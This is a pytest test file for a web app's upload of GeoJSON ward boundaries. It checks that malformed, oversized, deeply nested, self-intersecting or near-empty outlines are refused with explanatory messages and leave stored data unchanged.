    assert [ward.name for ward in boundary_of(demo).wards] == ["Docklands"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not json at all", "The file is not GeoJSON"),
        (b'{"type": "FeatureCollection", "features": [' + b"9" * 5000 + b"]}", "The file is not GeoJSON"),
        (b'{"type": "Feature"}', "The file must be a GeoJSON FeatureCollection"),
        (b'{"type": "FeatureCollection", "features": []}', "The file holds no wards"),
        (
            b'{"type": "FeatureCollection", "features": [{"properties": {}, '
            b'"geometry": {"type": "Polygon"}}]}',
            "Every ward needs a name",
        ),
        (
            b'{"type": "FeatureCollection", "features": [{"properties": {"name": "A"}, '
            b'"geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]}}]}',
            "Each ward&#x27;s outline needs at least three corners",
        ),
        (
            b'{"type": "FeatureCollection", "features": [{"properties": {"name": "A"}, '
            b'"geometry": {"type": "Point", "coordinates": [0, 0]}}]}',
            "A: each ward must be a Polygon or a MultiPolygon",
        ),
        (b" " * (2 * 1024 * 1024 + 1), "The file must be smaller than 2 MB"),
    ],
)
def test_a_file_that_is_not_ward_outlines_is_explained_and_changes_nothing(
    client_for, demo, content, message
):
    response = _upload(client_for("coordinator"), content)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not AuditEntry.objects.filter(target_type="reports.WardBoundary").exists()
    assert (
        client_for("coordinator")
        .get(reverse("reports:map"))
        .context["boundary"]
        .name.startswith("London Borough of Northbridge")
    )


def _one_ward(name, rings) -> bytes:
    import json

    feature = {
        "type": "Feature",
        "properties": {"name": name},
        "geometry": {"type": "Polygon", "coordinates": rings},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


# Its edges cross at (0.5, 0.5): a bow tie, whose two halves' areas cancel out.
BOW_TIE = [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b'{"type": "FeatureCollection", "features": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
            "nested too deeply",
        ),
        (b'{"type": "FeatureCollection", "name": ' + b"[" * 100 + b"]" * 100 + b"}", "nested too deeply"),
        (_one_ward("Crossways", BOW_TIE), "Crossways: the outline crosses itself"),
        (
            _one_ward("Holey", [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]], [[2, 2], [3, 2], [3, 3], [2, 2]]]),
            "Holey: the outline is not a valid shape",
        ),
    ],
)
def test_deeply_nested_or_self_intersecting_wards_are_refused_with_a_message_and_change_nothing(
    client_for, demo, content, message
):
    response = _upload(client_for("coordinator"), content)

    assert response.status_code == 200
    page = response.content.decode()
    assert "govuk-error-summary" in page
    assert message in page
    assert not WardBoundary.objects.exists()
    assert not AuditEntry.objects.filter(target_type="reports.WardBoundary").exists()


@pytest.mark.parametrize(
    ("corner", "message"),
    [
        # A JSON integer of 401 digits: Python reads it, but no float holds it.
        ([10**400, 50], "A point is outside the range of longitudes and latitudes"),
        ([-(10**400), 50], "A point is outside the range of longitudes and latitudes"),
        # JSON's true is no longitude, though Python counts it a number (1).
        ([True, 50], "Each point must be a longitude and a latitude"),
    ],
)
def test_a_point_too_large_for_a_number_or_true_or_false_is_explained_and_changes_nothing(
    client_for, demo, corner, message
):
    """The defect: a coordinate too large for a float was a server error (OverflowError), and true or false
    was read as the longitude 1 or 0. Now both are refused with a message, and nothing is kept."""
    client = client_for("coordinator")
    client.raise_request_exception = False
    response = _upload(client, _one_ward("Harbour", [[corner, [1.1, 50], [1.1, 50.1], [1, 50.1], corner]]))

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not WardBoundary.objects.exists()


# A triangle 0.1 degrees long (about 7 km) and a billionth of a degree high (about 0.1 mm): valid as a shape,
# of less than a square metre, with no room for a point.
SLIVER = [[[-1, 50], [-0.9, 50], [-0.95, 50.000000001], [-1, 50]]]


@pytest.mark.parametrize(
    "wards",
    [
        [("Sliver", SLIVER)],
        # One ward of the file is a sliver, another a real ward: the sliver is named.
        [("Harbour", SQUARE_WARD["features"][0]["geometry"]["coordinates"]), ("Sliver", SLIVER)],
    ],
)
def test_a_ward_with_almost_no_area_is_refused_with_a_message_on_the_file_and_changes_nothing(
    client_for, demo, wards
):
    """The defect: a near-zero-area outline (a sliver, valid as a shape) was kept, and then placed no
    scene."""
    import json

    features = [
        {
            "type": "Feature",
            "properties": {"name": name},
            "geometry": {"type": "Polygon", "coordinates": rings},
        }
        for name, rings in wards
    ]
    content = json.dumps({"type": "FeatureCollection", "features": features}).encode()

    response = _upload(client_for("coordinator"), content)

    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["file"] == [
        "Sliver: the outline has almost no area (less than 100 square metres), so no scene could be placed "
        "in it. Correct it in your mapping software and upload the file again"
    ]
    assert "govuk-error-summary" in response.content.decode()
    assert not WardBoundary.objects.exists()
    assert not AuditEntry.objects.filter(target_type="reports.WardBoundary").exists()


@pytest.mark.parametrize(
    "geometry",
    [
        {"type": "MultiPolygon", "coordinates": []},
        {"type": "MultiPolygon", "coordinates": [[]]},
        {"type": "Polygon", "coordinates": []},
    ],
)
def test_a_ward_with_an_empty_outline_is_refused_with_a_message_naming_it_and_changes_nothing(
    client_for, demo, geometry
):
    """The defect: an empty MultiPolygon has no area to measure (NaN, which is not less than anything), so it
    was kept beside the real ward, and the map then failed on its centre."""
    import json

    features = [
        *SQUARE_WARD["features"],
        {"type": "Feature", "properties": {"name": "Nowhere"}, "geometry": geometry},
    ]
    content = json.dumps({"type": "FeatureCollection", "features": features}).encode()

    response = _upload(client_for("coordinator"), content)

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == ["Nowhere: the outline has no coordinates"]
    assert "govuk-error-summary" in response.content.decode()
    assert not WardBoundary.objects.exists()
    assert not AuditEntry.objects.filter(target_type="reports.WardBoundary").exists()


def test_a_small_real_ward_is_kept(client_for, demo):
    """A city ward can be small: one of about 21 by 33 metres (700 square metres) is kept."""
    side = 0.0003  # degrees: of longitude at 50° north, about 21 metres; of latitude, about 33 metres
    rings = [[[-1, 50], [-1 + side, 50], [-1 + side, 50 + side], [-1, 50 + side], [-1, 50]]]
    assert _upload(client_for("coordinator"), _one_ward("Smallest", rings)).status_code == 302
    assert WardBoundary.objects.exists()


@pytest.mark.parametrize(
    "stored",
    [
        {
            "type": "FeatureCollection",
            "features": [
                {"properties": {"name": "Crossways"}, "geometry": {"type": "Polygon", "coordinates": BOW_TIE}}
            ],
        },
        {"type": "FeatureCollection", "features": "not a list"},
        {"type": "Feature"},
    ],
)
@pytest.mark.parametrize("role", ["coordinator", "police"])
def test_the_map_survives_bad_ward_outlines_stored_before_uploads_were_checked(
    client_for, demo, stored, role
):
    incident = IncidentFactory(partnership=demo)
    ParticipationFactory(incident=incident, organisation=demo.organisations.get(kind="police"))
    SceneFactory(incident=incident, latitude=Decimal("0.5"), longitude=Decimal("0.5"))
    WardBoundary.objects.create(partnership=demo, geojson=stored, file_name="old.geojson")

    response = client_for(role).get(reverse("reports:map"))

    assert response.status_code == 200
    assert response.context["map_data"]["boundary"] is None
    assert "cannot be drawn" in response.content.decode()
    assert client_for("coordinator").get(reverse("reports:boundary")).status_code == 200
    assert client_for(role).get(reverse("reports:ward_outlines")).json()["features"] == []
